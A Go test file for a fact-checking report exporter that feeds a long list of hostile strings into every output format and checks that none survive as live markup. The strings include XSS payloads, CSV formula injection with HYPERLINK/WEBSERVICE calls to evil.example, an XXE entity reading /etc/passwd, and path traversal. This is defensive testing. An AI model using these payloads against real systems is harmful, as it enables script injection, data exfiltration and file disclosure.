package report

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"os/exec"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"factledger/claims"
	"factledger/ledger"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/html"
)

// hostile are texts that some reader of some format might take for more than
// text. All are valid UTF-8 without NUL: the ledger lets nothing else in.
func hostile() []string {
	var out []string
	const run = "document.documentElement.setAttribute('pwned',1)"
	for _, sign := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", "\u200b=", "\u00a0=", "\"="} {
		for _, body := range []string{"1+1", "cmd|'/C calc'!A0", `HYPERLINK("http://evil.example/?"&A1,"qui")`, "WEBSERVICE(\"http://evil.example\")", "SUM(A1:A9)"} {
			out = append(out, sign+body)
		}
	}
	for _, s := range []string{
		"<script>%s</script>", "</script><script>%s</script>", "<img src=x onerror=%s>", "<svg/onload=%s>", "\"><script>%s</script>", "' onmouseover='%s", "\" autofocus onfocus=\"%s",
		"</style><script>%s</script>", "</title><script>%s</script>", "</textarea><script>%s</script>", "<iframe srcdoc='<script>%s</script>'>", "<body onload=%s>", "<!--><script>%s</script>", "--><script>%s</script>",
		"]]><script>%s</script>", "<a href=\"javascript:%s\">x</a>", "javascript:%s", "JaVaScRiPt:%s", " javascript:%s", "java\tscript:%s", "data:text/html,<script>%s</script>", "vbscript:%s", "&lt;script&gt;%s&lt;/script&gt;",
		"{{%s}}", "${%s}", "#{%s}", "<%%=%s%%>", "\\u003cscript\\u003e%s", "<math><mi xlink:href=javascript:%s>", "<meta http-equiv=refresh content=\"0;javascript:%s\">", "<base href=//evil.example/>%s", "<object data=javascript:%s>", "<form action=javascript:%s><button>",
		"<style>@import 'http://evil.example/%s'</style>", "expression(%s)", "url(javascript:%s)", "<link rel=stylesheet href=http://evil.example/%s>", "<plaintext>%s", "<noscript><p title=\"</noscript><script>%s</script>\">",
	} {
		out = append(out, strings.ReplaceAll(strings.ReplaceAll(s, "%s", run), "%%", "%"))
	}
	for _, s := range []string{
		"# titolo", "* voce", "- voce", "1. voce", "1) voce", "> citazione", "```go", "---", "===", "| a | b |", "[x](http://evil.example)", "![x](http://evil.example/p.png)", "<http://evil.example>", "http://evil.example", "www.evil.example", "a@evil.example",
		"`codice`", "**grassetto**", "_corsivo_", "~~via~~", "[^1]", "[x]: http://evil.example", "\\", "\\\\", "$x$", "$$x$$", "&nbsp;", "&#x3c;", ":smile:", "<!-- x -->", "<details>", "a  \nb", "    codice", "\tcodice", "+ voce", "[ ] fatto", "!x", "@nome", "#123", "==x==",
	} {
		out = append(out, s)
	}
	for r := rune(1); r < 0x20; r++ {
		out = append(out, "a"+string(r)+"b")
	}
	for _, r := range []rune{0x7f, 0x80, 0x85, 0x9b, 0xad, 0x61c, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0xfeff, 0xfffd, 0xfffe, 0xffff, 0x1f6a8, 0xe0041, 0x10ffff} {
		out = append(out, "a"+string(r)+"b")
	}
	return append(out,
		"", " ", "\n", "'", "''", `"`, `""`, ",", ";", "a,b;c", "a\"b", "a\r\nb", "\ufeff", "_x000D_", "_x0041_", "<w:p/>", "</w:t></w:r></w:p>", "<![CDATA[x]]>", "<?xml version=\"1.0\"?>", "&xxe;", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
		") Tj ET Q", "endstream endobj", "%%EOF", "(a\\)", "\\n\\r\\t", "{nb}", "/Type /EmbeddedFile /Length 9 /Filter /FlateDecode >>\nstream\n", "<!-- factledger AAAA -->", `<script type="application/json" id="factledger">{}</script>`,
		"../../etc/passwd", "C:\\con", "file:///etc/passwd", "\x1b[31mrosso\x1b[0m", "\x1b]0;titolo\x07", "🚨🇧🇾 e\u0301\u0300\u0327", "שלום עולם", "مرحبا", "日本語", "𝕳𝖎", "Z̸̧͎͝a̶l̷g̴o", strings.Repeat("a", 5000), strings.Repeat("à ", 2000), "http://evil.example/\"onclick=\""+run, "https://user:pw@evil.example/", "http://", "https://evil.example/?q=<script>", "mailto:a@b.example?bcc=c@d.example", "//evil.example", "http://evil.example/\u202egnp.exe")
}

// besieged is a report with one article, claim, mark, piece of evidence,
// relation and finding for each hostile text, which stands in every field.
func besieged() (*ledger.Report, []string) {
	texts := hostile()
	r := &ledger.Report{Head: ledger.Head{Ledger: "6f1c2b1e-0d1a-4c55-9a0e-3b1f5e2d7c90", Size: 1000, Root: "q7b0"}}
	r.Policy = ledger.Policy{Desk: texts[80], Corrections: texts[95], Contact: texts[81], Site: texts[96], Names: true,
		Ratings: map[string]ledger.Rating{"verified": {Name: texts[80]}}}
	r.Query.Dossier = texts[82]
	for i, s := range texts {
		var a ledger.Article
		var c ledger.Claim
		var m ledger.Mark
		var e ledger.Evidence
		var x ledger.Relation
		var f ledger.Finding
		for _, v := range []any{&a, &c, &m, &e, &x, &f} {
			fill(reflect.ValueOf(v).Elem(), s)
		}
		id := fmt.Sprintf("%08x-0000-5000-8000-000000000000", i)
		a.ID, c.ID, c.ArticleID, m.Claim, e.Claim, f.Claim = id, id, id, id, id, id
		a.Dossiers, c.Dropped, c.Reasons, a.Withdrawn = nil, "", []string{s}, s
		c.Start, c.End, c.AnchorStart, c.AnchorEnd = 0, utf8.RuneCountInString(s), 0, min(1, utf8.RuneCountInString(s))
		c.Value = claims.Value{}
		m.Status, c.Status = ledger.Status(1+i%3), ledger.Status(1+i%3)
		m.Correction = []string{"", "typo"}[i%2]
		m.Seq = int64(i + 1)
		c.Marks, c.Evidence = []ledger.Mark{m}, []ledger.Evidence{e}
		x.ID, x.A, x.B = "r"+id, id, fmt.Sprintf("%08x-0000-5000-8000-000000000000", (i+1)%len(texts))
		x.Kind = claims.RelationKind(i % 4)
		x.Also = nil
		r.Articles, r.Claims = append(r.Articles, a), append(r.Claims, c)
		r.Relations, r.Findings = append(r.Relations, x), append(r.Findings, f)
	}
	return r, texts
}

// fill sets every text of a value.
func fill(v reflect.Value, s string) {
	switch v.Kind() {
	case reflect.String:
		if v.CanSet() {
			v.SetString(s)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				fill(v.Field(i), s)
			}
		}
	}
}

func TestHostile(t *testing.T) {
	r, texts := besieged()
	if len(texts) < 200 {
		t.Fatalf("%d texts, want 200", len(texts))
	}
	for f := range formatNames {
		t.Run(Format(f).String(), func(t *testing.T) {
			for _, lang := range []string{"it", "en"} {
				doc := written(t, Format(f), r, Options{Lang: lang})
				switch Format(f) {
				case HTML:
					safeHTML(t, doc)
				case Atom:
					wellFormed(t, "feed", doc)
				case DOCX, XLSX:
					safeOffice(t, doc)
				case JSON:
					var d document
					if err := json.Unmarshal(doc, &d); err != nil {
						t.Fatal(err)
					}
					want := published(r)
					for i := range want.Claims {
						if d.Report.Claims[i].Quote != want.Claims[i].Quote || d.Report.Claims[i].Label != want.Claims[i].Label {
							t.Errorf("%q came back as %q", want.Claims[i].Quote, d.Report.Claims[i].Quote)
						}
					}
				case ClaimReview, Annotation:
					if !json.Valid(doc) {
						t.Error("not JSON")
					}
					if bytes.Contains(bytes.ToLower(doc), []byte(`"url": "javascript`)) {
						t.Error("an address that runs")
					}
				case CSV:
					x, err := ReadCSV(bytes.NewReader(doc))
					if err != nil {
						t.Fatal(err)
					}
					for i := range r.Claims {
						if d := cmp.Diff(r.Claims[i].Label, x.Claims[i].Label); d != "" {
							t.Error(d)
						}
					}
				case JSONLines:
					x, err := ReadLines(bytes.NewReader(doc))
					if err != nil {
						t.Fatal(err)
					}
					for i := range r.Claims {
						if r.Claims[i].Quote != x.Claims[i].Quote {
							t.Errorf("%q came back as %q", r.Claims[i].Quote, x.Claims[i].Quote)
						}
					}
				case Markdown:
					if i := bytes.IndexAny(bytes.ReplaceAll(doc, []byte("<!-- factledger "), nil), "\x00\x1b\x07"); i >= 0 {
						t.Errorf("a control character at %d", i)
					}
					safeMarkdown(t, doc)
				}
				if p, err := Read(doc); err == nil && (!p.Intact || len(p.Compare(r)) > 0 && Format(f) != CSV) {
					t.Errorf("read back: intact %v, %+v", p.Intact, p.Compare(r)[:min(3, len(p.Compare(r)))])
				}
			}
		})
	}
}

// allowed are the elements and attributes that the report's own page has.
var allowedTags = map[string]bool{"html": true, "head": true, "meta": true, "title": true, "style": true, "body": true, "a": true, "div": true, "header": true, "p": true, "h1": true, "h2": true, "h3": true, "ul": true, "li": true, "b": true, "span": true, "nav": true, "main": true, "section": true, "article": true, "figure": true, "figcaption": true, "strong": true, "br": true, "blockquote": true, "bdi": true, "mark": true, "dl": true, "dt": true, "dd": true, "svg": true, "rect": true, "circle": true, "line": true, "text": true, "table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true, "sup": true, "footer": true, "script": true}

func safeHTML(t *testing.T, doc []byte) {
	t.Helper()
	root, err := html.Parse(bytes.NewReader(doc))
	if err != nil {
		t.Fatal(err)
	}
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if !allowedTags[n.Data] {
				t.Errorf("an element <%s>", n.Data)
			}
			for _, a := range n.Attr {
				if strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "src" || a.Key == "srcdoc" {
					t.Errorf("<%s %s>", n.Data, a.Key)
				}
				if a.Key == "href" && !strings.HasPrefix(a.Val, "#") && !strings.HasPrefix(a.Val, "http://") && !strings.HasPrefix(a.Val, "https://") && !strings.HasPrefix(a.Val, "mailto:") {
					t.Errorf("a link to %q", a.Val)
				}
				if n.Data == "script" && a.Key == "type" && a.Val != "application/json" && a.Val != "application/ld+json" {
					t.Errorf("a script of type %q", a.Val)
				}
			}
			if n.Data == "script" && len(n.Attr) == 0 {
				t.Error("a script that runs")
			}
			if n.Data == "script" && (n.FirstChild == nil || !json.Valid([]byte(n.FirstChild.Data))) {
				t.Error("data that is no JSON")
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(root)
}

// safeMarkdown holds that a text makes neither elements nor links: what is not
// escaped, in code or a link of the report's own has no sign of either.
func safeMarkdown(t *testing.T, doc []byte) {
	t.Helper()
	rest := inText.ReplaceAll(doc, nil)
	for _, own := range []string{`\\.`, "`[^`\n]*`", `\]\(<https?://[^<>\s]*>\)`, `\]\(#[a-z0-9-]*\)`} {
		rest = regexp.MustCompile(own).ReplaceAll(rest, nil)
	}
	for _, sign := range []string{"<", "](", "]:", "`", "://"} {
		if i := bytes.Index(rest, []byte(sign)); i >= 0 {
			t.Errorf("%q at %q", sign, rest[max(0, i-40):min(len(rest), i+40)])
		}
	}
}

func wellFormed(t *testing.T, name string, doc []byte) {
	t.Helper()
	d := xml.NewDecoder(bytes.NewReader(doc))
	for {
		if _, err := d.Token(); err == io.EOF {
			return
		} else if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
	}
}

func safeOffice(t *testing.T, doc []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(doc), int64(len(doc)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		wellFormed(t, f.Name, b)
		for _, bad := range []string{"<f>", "<f ", "w:fldSimple", "w:instrText", "vbaProject", "externalLink", "oleObject", `Target="javascript`, `Target="file`, `Target="data`} {
			if bytes.Contains(b, []byte(bad)) {
				t.Errorf("%s holds %s", f.Name, bad)
			}
		}
	}
}

// TestHostileInChromium: nothing of it runs in a browser.
func TestHostileInChromium(t *testing.T) {
	if testing.Short() {
		t.Skip("starts a browser")
	}
	browser := tool(t, "chromium")
	r, _ := besieged()
	page := filepath.Join(t.TempDir(), "r.html")
	save(t, page, written(t, HTML, r, Options{}))
	dom, err := exec.Command(browser, "--headless", "--no-sandbox", "--disable-gpu", "--user-data-dir="+t.TempDir(), "--virtual-time-budget=2000", "--dump-dom", "file://"+page).Output()
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(dom[:min(len(dom), 200)], []byte(`pwned`)) || !bytes.Contains(dom, []byte(`id="factledger"`)) {
		t.Errorf("a script ran, or the page is not whole: %q", dom[:min(len(dom), 200)])
	}
}
